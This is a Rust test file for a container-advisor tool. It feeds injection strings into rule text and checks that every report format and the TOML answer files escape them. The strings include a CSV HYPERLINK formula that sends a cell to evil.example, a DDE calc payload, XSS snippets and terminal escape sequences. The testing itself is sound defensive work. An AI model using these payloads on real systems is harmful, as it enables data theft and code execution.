//! Hostile rule text through every view and every format (issue 11, rows 3–6 and 9).
//!
//! Validation rejects control characters and bidi overrides in rule text, but the
//! renderers must be safe on their own: this test puts hostile text straight into a
//! validated rule set (names, summaries, descriptions, reasons, sources, question texts,
//! help, option labels, notes) and renders every view in every format, asserting:
//! no raw control or invisible character on the terminal format; no raw HTML, link,
//! heading, list, code block or table row from rule text in Markdown; no
//! formula-leading CSV cell; JSON that parses and keeps the text exactly; and answer
//! files whose comments cannot add a key. A second test sends the hostile text that
//! validation allows through the binary, every command × format.

mod support;

use container_advisor::engine::robustness::{RobustnessOptions, analyse};
use container_advisor::model::{Effect, Text};
use container_advisor::report::catalogue::Catalogue;
use container_advisor::report::compare::CompareReport;
use container_advisor::report::versus::VersusReport;
use container_advisor::report::{CostOnlyReport, Format, RenderOptions, Report};
use container_advisor::{Answers, Lang, RuleSet, default_rules, evaluate, questionnaire};

/// Each starts some field, so each reaches the start of a CSV cell and of a Markdown line.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "\u{1b}]52;c;ZXZpbA==\u{7}clipboard",
    "\u{1b}[2J\u{1b}]0;title\u{7}clear",
    "\u{202e}txt.exe\u{202c} bidi \u{2066}iso\u{2069}",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1)) and <javascript:alert(2)>",
    "x\r\r## HOSTILE heading\r| HOSTILE | row |",
    "\n- HOSTILE item\n```\nHOSTILE code\n> HOSTILE quote",
    "+1 @SUM(A1) -2",
    "<script>alert(1)</script>",
    "zero\u{200b}width\u{feff} and C1 \u{9b}31m",
    "@cmd|' /C calc'!A0",
    "-2+3 \t tab",
    "\rregion = \"us-east-1\"\ngpu = true\n[x]\ny = 1",
];

fn hostile(i: usize) -> String {
    HOSTILE[i % HOSTILE.len()].to_owned()
}

fn text(i: usize) -> Text {
    Text::new(hostile(i), hostile(i + 1))
}

/// The default rules with hostile text in every field that reaches a report.
fn hostile_rules() -> RuleSet {
    let mut rules = default_rules().unwrap_or_else(|e| panic!("{e}"));
    let mut i = 0;
    let mut next = || {
        i += 1;
        i
    };
    for p in &mut rules.patterns {
        p.name = text(next());
        p.summary = text(next());
    }
    for c in &mut rules.criteria {
        c.name = text(next());
        c.description = text(next());
    }
    for row in &mut rules.ratings {
        for r in row {
            r.reason = text(next());
            r.source = hostile(next()).into();
        }
    }
    for q in &mut rules.questions {
        q.text = text(next());
        q.help = Some(text(next()));
        for o in &mut q.options {
            o.label = text(next());
        }
    }
    for r in &mut rules.rules {
        r.reason = text(next());
        r.source = hostile(next()).into();
        for e in &mut r.effects {
            if let Effect::Note { text: t, .. } = e {
                *t = text(next());
            }
        }
    }
    rules
}

fn answers(rules: &RuleSet) -> Answers {
    let mut set: Vec<&str> = support::COMPLETE.lines().filter(|l| l.contains('=')).collect();
    set.extend(["region = \"us-east-1\"", "tasks = 10", "task_vcpu = 1", "task_memory_gib = 2", "gpu = false"]);
    let assignments: Vec<String> = set.iter().map(|l| l.replace([' ', '"'], "")).collect();
    let answers = Answers::from_assignments(&assignments, rules).unwrap_or_else(|d| panic!("{d:?}"));
    questionnaire::complete_with_defaults(rules, answers).answers
}

const FORMATS: &[(&str, Format)] = &[
    ("table", Format::Table),
    ("markdown", Format::Markdown),
    ("json", Format::Json),
    ("csv", Format::Csv),
    ("html", Format::Html),
    ("adr", Format::Adr),
];

/// Every view of the hostile rule set in every format: `(view, format, text)`.
fn renderings(rules: &RuleSet, lang: Lang) -> Vec<(String, Format, String)> {
    let options = RenderOptions { date: Some("2026-11-26".to_owned()), ..RenderOptions::default() };
    let answers = answers(rules);
    let evaluation = evaluate(rules, &answers);
    let robustness = analyse(&evaluation, &RobustnessOptions::default());
    let report = Report::new(rules, &answers, &[], &evaluation, Some(&robustness), lang);
    let base = CompareReport::base(rules, None, lang);
    let weighted = CompareReport::weighted(rules, &answers, &evaluation, None, lang);
    let versus = VersusReport::new(report.clone(), report.clone(), hostile(4), hostile(6));
    // B with another winner and fewer rules, so every part of the comparison is shown.
    let mut b = report.clone();
    b.ranking.reverse();
    b.recommendation.pattern = b.ranking.iter().find(|p| !p.excluded).map(|p| p.pattern.clone());
    b.recommendation.name = b.ranking.iter().find(|p| !p.excluded).map(|p| p.name.clone());
    b.rules_fired.truncate(1);
    let changed = VersusReport::new(report.clone(), b, hostile(7), hostile(8));
    let catalogue = Catalogue::new(rules, lang);
    let (estimate, completion) =
        container_advisor::cost::estimate_answers(rules, answers.clone()).unwrap_or_else(|e| panic!("{e:?}"));
    let cost = CostOnlyReport::new(rules, &completion.answers, &completion.defaulted, &estimate, lang);
    let mut out = Vec::new();
    // A team's ADR template (the example in docs/) escapes like the built-in documents.
    let team = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let example = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/examples/recommend.adr.md");
    std::fs::copy(example, team.path().join("recommend.adr.md")).unwrap_or_else(|e| panic!("{e}"));
    let templates =
        container_advisor::report::Templates::load(Some(team.path()), None).unwrap_or_else(|e| panic!("{e}"));
    let team_options = RenderOptions { templates, ..options.clone() };
    out.push((
        "recommend --format adr (team template)".to_owned(),
        Format::Adr,
        report.render(Format::Adr, &team_options),
    ));
    for (name, format) in FORMATS {
        let mut add = |view: &str, text: String| out.push((format!("{view} --format {name}"), *format, text));
        add("recommend", report.render(*format, &options));
        add("compare", base.render(*format, &options));
        add("compare --answers", weighted.render(*format, &options));
        add("recommend --versus", versus.render(*format, &options));
        add("recommend --versus (changed)", changed.render(*format, &options));
        if matches!(format, Format::Table | Format::Markdown | Format::Json) {
            add("rules list", catalogue.render(*format, &options));
        }
        if !matches!(format, Format::Adr) {
            add("cost", cost.render(*format, &options));
        }
    }
    out
}

fn is_unsafe_on_a_terminal(c: char) -> bool {
    (c.is_control() && c != '\n') || container_advisor::escape::is_invisible(c)
}

/// True when `needle` occurs in `line` as live Markdown: not right after a backslash
/// and not inside a code span.
fn live(line: &str, needle: &str) -> bool {
    line.match_indices(needle).any(|(i, _)| {
        let escaped = line[..i].ends_with('\\');
        let in_code = line[..i].matches('`').count() % 2 == 1;
        !escaped && !in_code
    })
}

/// What a Markdown document must not hold when rule text is hostile.
fn markdown_problems(doc: &str) -> Vec<String> {
    let mut problems = Vec::new();
    if doc.contains('\r') {
        problems.push("a carriage return".to_owned());
    }
    for line in doc.lines() {
        for raw in ["<img", "<script", "</script", "](javascript:", "<javascript:"] {
            if live(line, raw) {
                problems.push(format!("raw {raw:?} in {line:?}"));
            }
        }
        // Every hostile block starts with a marker, a space and HOSTILE; in a table row
        // only a new row would be one.
        let t = line.trim_start_matches(|c: char| " #->`".contains(c));
        if (line.starts_with('|') && line.starts_with("| HOSTILE"))
            || (!line.starts_with('|') && t.starts_with("HOSTILE"))
        {
            problems.push(format!("a block from rule text: {line:?}"));
        }
    }
    problems
}

fn csv_problems(doc: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(doc.as_bytes());
    let mut problems = Vec::new();
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("invalid CSV: {e}"));
        for field in &record {
            let formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
            if formula && field.parse::<f64>().is_err() {
                problems.push(format!("formula-leading cell {field:?}"));
            }
        }
    }
    problems
}

#[test]
fn hostile_rule_text_is_safe_in_every_view_and_format() {
    let rules = hostile_rules();
    let mut failures = Vec::new();
    for lang in [Lang::En, Lang::Ja] {
        for (view, format, doc) in renderings(&rules, lang) {
            let problems: Vec<String> = match format {
                Format::Table => doc
                    .chars()
                    .filter(|c| is_unsafe_on_a_terminal(*c))
                    .map(|c| format!("raw {c:?} on the terminal"))
                    .take(3)
                    .collect(),
                Format::Markdown | Format::Adr => markdown_problems(&doc),
                Format::Csv => csv_problems(&doc),
                Format::Json => match serde_json::from_str::<serde_json::Value>(&doc) {
                    Ok(_) => Vec::new(),
                    Err(e) => vec![format!("JSON does not parse: {e}")],
                },
                Format::Html => ["<img", "<script", "href=\"javascript:"]
                    .iter()
                    .filter(|raw| doc.contains(**raw))
                    .map(|raw| format!("raw {raw}"))
                    .collect(),
            };
            for problem in problems.into_iter().take(3) {
                failures.push(format!("{view} ({lang:?}): {problem}"));
            }
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn hostile_question_texts_cannot_add_answers_to_a_template_or_saved_answers() {
    let rules = hostile_rules();
    let answers = answers(&rules);
    for lang in [Lang::En, Lang::Ja] {
        let template = questionnaire::answers_template(&rules, lang);
        let table: toml::Table = toml::from_str(&template).unwrap_or_else(|e| panic!("{e}\n{template}"));
        let keys: Vec<&str> = table.keys().map(String::as_str).collect();
        // Workload answers an estimate requires are never filled in from a default.
        let mut defaults: Vec<&str> = rules
            .questions
            .iter()
            .filter(|q| q.default.is_some() && !(q.optional && questionnaire::needed_for_estimate(q)))
            .map(|q| q.id.as_str())
            .collect();
        defaults.sort_unstable();
        assert_eq!(keys, defaults, "the template sets the defaults and nothing else");
        let saved = answers.to_toml(&rules, lang);
        let read: toml::Table = toml::from_str(&saved).unwrap_or_else(|e| panic!("{e}\n{saved}"));
        let keys: Vec<&str> = read.keys().map(String::as_str).collect();
        let expected: Vec<&str> = answers.iter().map(|(k, _)| k).collect();
        assert_eq!(keys, expected, "the saved answers read back as they were:\n{saved}");
        assert!(!saved.contains('\u{1b}') && !saved.contains('\r'), "{saved:?}");
    }
}

/// Row 3: an unbroken 400,000-character word took 18 s to wrap in a table (now 0.07 s,
/// measured outside the tests: README, Hardening). Here: it wraps, whole, in every table.
#[test]
fn a_long_unbroken_word_wraps_whole_in_every_table() {
    let mut rules = default_rules().unwrap_or_else(|e| panic!("{e}"));
    let word = "x".repeat(400_000);
    rules.ratings[0][0].reason = Text::new(word.clone(), "日本語".repeat(100_000));
    for rule in &mut rules.rules {
        rule.reason = Text::new("y".repeat(40_000), "語".repeat(40_000));
    }
    let answers = answers(&rules);
    let evaluation = evaluate(&rules, &answers);
    let report = Report::new(&rules, &answers, &[], &evaluation, None, Lang::En);
    let table = report.render(Format::Table, &RenderOptions { explain: true, ..RenderOptions::default() });
    // The first screen cuts each note and exclusion to one line of the width.
    let first_screen = report.render(Format::Table, &RenderOptions::default());
    assert!(first_screen.lines().all(|l| l.chars().count() <= 100), "{first_screen}");
    let compare = CompareReport::base(&rules, None, Lang::En).render(Format::Table, &RenderOptions::default());
    let ja = CompareReport::base(&rules, None, Lang::Ja).render(Format::Table, &RenderOptions::default());
    assert!(table.contains("yyyy") && compare.matches('x').count() >= 400_000);
    assert!(ja.contains("日本語"));
}

/// Hostile text that validation allows (no control characters): HTML, links, a
/// formula, Markdown blocks on new lines, as a TOML basic string's contents.
const ALLOWED: &str = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"x\\\") <img src=x onerror=alert(1)> \
    [click](javascript:alert(1))\\n## HOSTILE heading\\n| HOSTILE | row |\\n- HOSTILE item\\n```\\nHOSTILE code";

/// The default rules exported and edited so that names, criteria, question texts,
/// option labels, reasons and sources all start with [`ALLOWED`].
fn hostile_pack(dir: &std::path::Path) -> std::path::PathBuf {
    let pack = dir.join("pack");
    let status = support::cmd().arg("rules").arg("export").arg(&pack).output().unwrap_or_else(|e| panic!("{e}"));
    assert!(status.status.success(), "{}", String::from_utf8_lossy(&status.stderr));
    let edit = |name: &str, from: &str, to: &str| {
        let path = pack.join(name);
        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{e}"));
        assert!(text.contains(from), "{name} has no {from}");
        std::fs::write(&path, text.replace(from, to)).unwrap_or_else(|e| panic!("{e}"));
    };
    edit("patterns.toml", "name = { en = \"ECS on EC2\"", &format!("name = {{ en = \"{ALLOWED}\""));
    edit("criteria.toml", "name = { en = \"Low cost\"", &format!("name = {{ en = \"{ALLOWED}\""));
    edit("questions.toml", "text = { en = \"", &format!("text = {{ en = \"{ALLOWED} "));
    edit("questions.toml", "label = { en = \"", &format!("label = {{ en = \"{ALLOWED} "));
    edit("ratings.toml", "reason = { en = \"", &format!("reason = {{ en = \"{ALLOWED} "));
    edit("team.toml", "reason = { en = \"", &format!("reason = {{ en = \"{ALLOWED} "));
    // Sources cite the catalogue by id: the hostile text goes into a locator (free text
    // after the id) and into the catalogue's titles, which reports show.
    edit("ratings.toml", "source = \"", "source = \"aws-ecs-pricing §@cmd|' /C calc'!A0 <script>alert(1)</script>; ");
    edit("sources.toml", "title = { en = \"", &format!("title = {{ en = \"{ALLOWED} "));
    pack
}

#[test]
fn hostile_text_that_validation_allows_is_safe_through_every_command_and_format() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let pack = hostile_pack(dir.path());
    let answers = support::write(
        dir.path(),
        "a.toml",
        &format!(
            "{}\nk8s_in_use = \"production\"\nregion = \"us-east-1\"\ntasks = 4\ntask_vcpu = 1\ntask_memory_gib = 2\n",
            support::COMPLETE.replace("k8s_in_use = \"none\"\n", "")
        ),
    );
    let a = answers.to_str().unwrap_or_default();
    let p = pack.to_str().unwrap_or_default();
    let all = ["table", "markdown", "json", "csv", "html", "adr"];
    let mut runs: Vec<(Vec<String>, &str)> = Vec::new();
    for format in all {
        runs.push((vec!["recommend".into(), "--no-input".into(), "--answers".into(), a.into()], format));
        runs.push((
            vec!["recommend".into(), "--no-input".into(), "--answers".into(), a.into(), "--versus".into(), a.into()],
            format,
        ));
        runs.push((vec!["compare".into()], format));
        runs.push((vec!["compare".into(), "--answers".into(), a.into()], format));
        if format != "adr" {
            runs.push((vec!["cost".into(), "--answers".into(), a.into()], format));
        }
        if matches!(format, "table" | "markdown" | "json") {
            runs.push((vec!["rules".into(), "list".into()], format));
        }
    }
    runs.push((vec!["questions".into()], "table"));
    runs.push((vec!["questions".into()], "toml"));
    let mut failures = Vec::new();
    for (args, format) in &runs {
        let output = support::cmd()
            .args(["--rules", p, "--rules-only"])
            .args(args)
            .args(["--format", format])
            .output()
            .unwrap_or_else(|e| panic!("{e}"));
        let doc = String::from_utf8_lossy(&output.stdout).into_owned();
        if !output.status.success() {
            failures.push(format!(
                "{args:?} {format}: exit {:?}: {}",
                output.status.code(),
                String::from_utf8_lossy(&output.stderr)
            ));
            continue;
        }
        let problems: Vec<String> = match *format {
            "table" => doc.chars().filter(|c| is_unsafe_on_a_terminal(*c)).map(|c| format!("raw {c:?}")).collect(),
            "markdown" | "adr" => markdown_problems(&doc),
            "csv" => csv_problems(&doc),
            "json" => {
                serde_json::from_str::<serde_json::Value>(&doc).err().map(|e| e.to_string()).into_iter().collect()
            }
            "html" => ["<img", "<script", "href=\"javascript:"]
                .iter()
                .filter(|r| doc.contains(**r))
                .map(|r| format!("raw {r}"))
                .collect(),
            _ => match toml::from_str::<toml::Table>(&doc) {
                Ok(t) if t.contains_key("region") || t.keys().any(|k| k.contains("HOSTILE")) => {
                    vec![format!("injected keys {t:?}")]
                }
                Ok(_) => Vec::new(),
                Err(e) => vec![e.to_string()],
            },
        };
        for problem in problems.into_iter().take(3) {
            failures.push(format!("{args:?} --format {format}: {problem}"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}
